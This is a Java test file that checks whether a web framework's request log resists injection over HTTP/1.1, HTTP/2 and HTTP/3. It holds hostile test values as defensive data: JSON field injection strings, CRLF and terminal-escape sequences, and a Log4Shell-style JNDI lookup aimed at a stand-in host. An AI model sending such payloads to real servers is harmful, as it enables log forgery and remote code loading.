/*
 * Copyright 2026 the Tertia authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package dev.tertia.autoconfigure.http;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tertia.autoconfigure.http3.TestApplication;
import dev.tertia.autoconfigure.http3.TestClient;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.boot.web.server.reactive.context.ReactiveWebServerApplicationContext;

import reactor.core.publisher.Mono;
import reactor.netty.http.HttpProtocol;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;

/** Whatever a client sends, its request is one line of the log, and says what it was. */
@Timeout(120)
final class LogInjectionOverAllProtocolsTests {

    private static final Duration PATIENCE = Duration.ofSeconds(30);

    private static final List<String> VALUES =
            List.of(
                    "a\",\"status_code\":200,\"x\":\"",
                    "\\\",\\\"user\\\":\\\"admin",
                    "\\u000a{\"method\":\"GET\"}",
                    "%0d%0aInjected: line",
                    "${jndi:ldap://evil.example/a}",
                    "%d{HH:mm} %msg%n {}",
                    "x".repeat(1_500));

    /** What HTTP/1.1 may still refuse. */
    private static final List<String> UNUSUAL = List.of("a\tb", "a\u00e9\u0085b");

    /** What the clients for HTTP/2 and HTTP/3 cannot send. */
    private static final List<String> CONTROLS =
            List.of("a\u001b[2J\u001b[31mred", "a\u0007\bb", "a\u007fb");

    private static final List<String> TARGETS =
            List.of(
                    "/%0d%0a%7B%22method%22:%22GET%22%7D",
                    "/%0A%1b%5b31m",
                    "/%22,%22status_code%22:200,%22x%22:%22",
                    "/%E2%80%A8%E2%80%AE%C2%85",
                    "/%00%ff%fe",
                    "/a?b=%0d%0a%22,%22c%22:%22d&e=%1b%5b2J",
                    "/a?%22%7D%0a%7B%22method%22:%22DELETE%22=1");

    private static final BlockingQueue<String> LOG = new LinkedBlockingQueue<>();

    private static final LogLines LINES = LogLines.ofText("tertia.request", LOG::add);

    private static ReactiveWebServerApplicationContext context;

    @BeforeAll
    static void start() {
        context =
                TestApplication.start(
                        "tertia.http.errors.enabled=true",
                        "tertia.http.client-address.enabled=true",
                        "tertia.http.client-address.trusted-proxies=127.0.0.0/8",
                        "tertia.http.request-log.enabled=true",
                        "tertia.http.request-log.headers=user-agent,referer,x-forwarded-for");
        LINES.start();
    }

    @AfterAll
    static void stop() {
        LINES.close();
        context.close();
    }

    @BeforeEach
    void forget() {
        LOG.clear();
    }

    private static JsonNode logged(HttpProtocol protocol, String target, String... fields)
            throws InterruptedException {
        request(protocol, target, fields).block(PATIENCE);
        return line();
    }

    private static Mono<Void> request(HttpProtocol protocol, String target, String... fields) {
        return new TestClient(protocol, TestApplication.port(context))
                .with(fields)
                .get()
                .uri(target)
                .response()
                .then();
    }

    /** Returns the next line, which is whole. */
    private static JsonNode line() throws InterruptedException {
        String line = Objects.requireNonNull(LOG.poll(30, TimeUnit.SECONDS), "A line in the log");
        assertThat(line).matches("[ -~]+");
        JsonNode json = JsonMapper.shared().readTree(line);
        assertThat(json.get("method").asString()).isEqualTo("GET");
        assertThat(json.get("status_code").intValue()).isEqualTo(404);
        assertThat(json.propertyNames())
                .isSubsetOf(
                        "timestamp",
                        "method",
                        "path",
                        "query",
                        "protocol",
                        "remote_addr",
                        "user_agent",
                        "referer",
                        "header_x_forwarded_for",
                        "status_code",
                        "duration_ms",
                        "bytes_received",
                        "bytes_sent",
                        "trace_id",
                        "span_id");
        return json;
    }

    @ParameterizedTest
    @EnumSource(names = {"HTTP11", "H2", "HTTP3"})
    void fieldsStayInTheirLine(HttpProtocol protocol) throws Exception {
        for (String value : VALUES) {
            JsonNode line =
                    logged(
                            protocol,
                            "/nowhere",
                            "User-Agent",
                            value,
                            "Referer",
                            value,
                            "X-Forwarded-For",
                            value);
            assertThat(line.get("path").asString()).isEqualTo("/nowhere");
            assertThat(line.get("remote_addr").asString()).isEqualTo("127.0.0.1");
            String logged = line.get("user_agent").asString();
            assertThat(value).startsWith(logged.substring(0, Math.min(9, logged.length())));
        }
    }

    @ParameterizedTest
    @EnumSource(names = {"HTTP11", "H2", "HTTP3"})
    void targetsStayInTheirLine(HttpProtocol protocol) throws Exception {
        for (String target : TARGETS) {
            JsonNode line = logged(protocol, target, "User-Agent", "test");
            assertThat(line.get("user_agent").asString()).isEqualTo("test");
            assertThat(target).startsWith(line.get("path").asString());
        }
    }

    @ParameterizedTest
    @EnumSource(names = {"HTTP11", "H2", "HTTP3"})
    void controlCharactersAreRefusedOrEscaped(HttpProtocol protocol) throws Exception {
        List<String> values = new ArrayList<>(UNUSUAL);
        if (protocol == HttpProtocol.HTTP11) {
            values.addAll(CONTROLS);
        }
        for (String value : values) {
            request(protocol, "/control", "User-Agent", value).block(PATIENCE);
            request(protocol, "/marker", "User-Agent", "marker").block(PATIENCE);
            JsonNode line = line();
            if (line.get("path").asString().equals("/control")) {
                assertThat(line.get("user_agent").asString()).isEqualTo(value);
                line = line();
            }
            assertThat(line.get("path").asString()).isEqualTo("/marker");
            assertThat(line.get("user_agent").asString()).isEqualTo("marker");
        }
    }
}
